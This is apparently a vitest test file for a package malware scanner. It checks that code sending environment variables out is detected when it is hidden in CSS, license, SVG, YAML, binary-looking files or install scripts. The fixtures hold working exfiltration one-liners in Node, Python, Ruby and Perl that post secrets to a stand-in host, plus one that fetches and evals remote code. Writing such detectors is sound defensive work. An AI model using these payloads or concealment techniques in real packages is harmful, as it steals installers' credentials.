import { describe, expect, test } from 'vitest';
import { findingsOf, manifestWith } from '../test/findings-of.ts';

const theft = `require('https').request({ host: 'x.invalid', method: 'POST' }).end(JSON.stringify(process.env));`;
const typedTheft = `import https from 'node:https';
enum Kind { A, B }
interface Sent { body: string }
export const send = <T extends Sent>(one: T): void => void https.request({ host: 'x.invalid' } as any).end(one!.body);
send({ body: JSON.stringify(process.env) satisfies string });`;

async function tierOf(files: Record<string, string | Buffer>): Promise<string> {
  const found = await findingsOf(files);
  const tiers = found.filter((line) => line.includes('malware.')).map((line) => line.split(' ')[0]);
  return tiers.includes('block') ? 'block' : tiers.includes('review') ? 'review' : 'quiet';
}

const main = (path: string) => JSON.stringify({ name: 'a', version: '1.0.0', main: path });

describe('code is found under any name that other code loads', () => {
  test.each<[string, Record<string, string>]>([
    ['styles', { 'index.js': `require('./a.css')`, 'a.css': theft }],
    ['a text', { 'index.js': `import('./a.txt')`, 'a.txt': theft }],
    ['a license', { 'index.js': `require('./LICENSE.md')`, 'LICENSE.md': theft }],
    ['a map', { 'index.js': `require('./index.js.map')`, 'index.js.map': theft }],
    ['a picture', { 'index.js': `require('./logo.svg')`, 'logo.svg': theft }],
    ['types', { 'index.js': `require('./a.d.ts')`, 'a.d.ts': theft }],
    ['settings', { 'index.js': `eval(fs.readFileSync('./a.yml', 'utf8'))`, 'a.yml': theft }],
    ['no ending', { 'index.js': `require('./bin/run')`, 'bin/run': theft }],
    ['a name of its own', { 'index.js': `require('./a.dat')`, 'a.dat': theft }],
    ['a joined path', { 'index.js': `require(path.join(__dirname, 'x', 'a.txt'))`, 'x/a.txt': theft }],
    ['a folder and a name', { 'index.js': `require(__dirname + '/x/a.txt')`, 'x/a.txt': theft }],
    ['a template', { 'index.js': 'require(`./x/a.txt`)', 'x/a.txt': theft }],
    ['a started program', { 'index.js': `fork('x/a.txt')`, 'x/a.txt': theft }],
    ['a name alone', { 'index.js': `spawn('node', [join(dir, 'a.txt')])`, 'x/a.txt': theft }],
    ['a folder', { 'index.js': `require('./x')`, 'x/package.json': main('a.css'), 'x/a.css': theft }],
    ['two steps', { 'index.js': `require('./b')`, 'b/index.js': `require('../a.txt')`, 'a.txt': theft }],
    ['the manifest', { 'package.json': main('./a.css'), 'a.css': theft }],
    ['a long comment', { 'index.js': `require('./a.txt')`, 'a.txt': `/*${' x'.repeat(9_000)}*/${theft}` }],
    ['a comment with zeros', { 'index.js': `require('./a.txt')`, 'a.txt': `/*\0\0*/${theft}` }],
    ['a long text', { 'index.js': `require('./a.txt')`, 'a.txt': `var a = '${'x'.repeat(9_000)}';${theft}` }],
  ])('%s', async (_, files) => {
    expect(await tierOf(files)).not.toBe('quiet');
  });

  test('and is nothing where no code names it', async () => {
    for (const file of ['a.css', 'docs/a.txt', 'a.md', 'x/a.yml']) {
      expect(await findingsOf({ 'index.js': 'module.exports = 1', [file]: theft })).toEqual([]);
    }
  });

  test('prose, styles and data that mention code are no code', async () => {
    const files = {
      'index.js': `require('./README.md'); require('./a.css'); require('./a.json'); require('./a.csv')`,
      'README.md': `# Title\n\n\`\`\`js\n${theft}\n\`\`\`\n`,
      'a.css': `/* ${theft} */ .a { color: red }`,
      'a.json': JSON.stringify({ text: theft }),
      'a.csv': `a,b\nc,"${theft}"\n`,
    };
    expect(await findingsOf(files)).toEqual([]);
  });
});

describe('TypeScript is read without its types', () => {
  test.each([
    ['setup.ts', 'node setup.ts'],
    ['setup.mts', 'node setup.mts'],
    ['setup.cts', 'node setup'],
    ['src/setup.ts', 'tsx src/setup'],
    ['src/index.ts', 'ts-node src'],
  ])('%s run by "%s"', async (file, command) => {
    expect(await tierOf({ 'package.json': manifestWith({ install: command }), [file]: typedTheft })).toBe(
      'block',
    );
  });

  test('types alone are quiet', async () => {
    expect(
      await tierOf({ 'index.ts': 'export interface Env { env: typeof process.env; fetch(): void }' }),
    ).toBe('quiet');
  });
});

describe('first bytes that contradict the use', () => {
  const elf = Buffer.concat([Buffer.from('7f454c4602010100', 'hex'), Buffer.alloc(100)]);

  test.each<[string, string]>([
    ['a program', `MZ=0;\n${theft}`],
    ['a picture', `GIF89a=1;${theft}`],
    ['an archive', `BZh91AY=1;${theft}`],
  ])('hide no code: %s', async (_, text) => {
    for (const file of ['index.js', 'a.gif', 'lib/a.bin']) {
      const found = await findingsOf({ 'index.js': `require('./${file}')`, [file]: text });
      expect(found.join()).toMatch(/malware\.(?:credential-theft|exfiltration)/);
      expect(found).toContain(`review malware.disguised-file ${file}`);
    }
  });

  test('are a finding of their own where the file is loaded', async () => {
    const rule = 'review malware.disguised-file';
    expect(await findingsOf({ 'index.js': elf })).toContain(`${rule} index.js`);
    expect(
      await findingsOf({
        'index.js': `require('./lib/a')`,
        'lib/a.json': Buffer.from('504b030400000000', 'hex'),
      }),
    ).toContain(`${rule} lib/a.json`);
    expect((await findingsOf({ 'test/fixtures/a.js': elf })).join()).not.toContain('disguised');
    expect((await findingsOf({ 'index.js': `require('./a.node')`, 'a.node': elf })).join()).not.toContain(
      'disguised',
    );
  });
});

describe('scripts of other languages', () => {
  test.each([
    [
      'run.py',
      'python3 run.py',
      `import os, urllib.request\nurllib.request.urlopen('http://x.invalid', data=str(os.environ).encode())\n`,
    ],
    ['run.rb', 'ruby run.rb', `require 'net/http'\nNet::HTTP.post(URI('http://x.invalid'), ENV.to_h.to_s)\n`],
    [
      'run',
      './run',
      `#!/usr/bin/env python3\nimport requests, os\nrequests.post('http://x.invalid', data=dict(os.environ))\n`,
    ],
    ['run.pl', 'perl run.pl', `use LWP::Simple; eval(get('http://x.invalid/a')); LWP::UserAgent->new;\n`],
  ])('%s at install', async (file, command, text) => {
    expect(await tierOf({ 'package.json': manifestWith({ install: command }), [file]: text })).toBe('block');
  });

  test('that print are quiet', async () => {
    const files = {
      'package.json': manifestWith({ install: 'python3 run.py' }),
      'run.py': 'print("hello")\n',
    };
    expect(await tierOf(files)).toBe('quiet');
  });
});
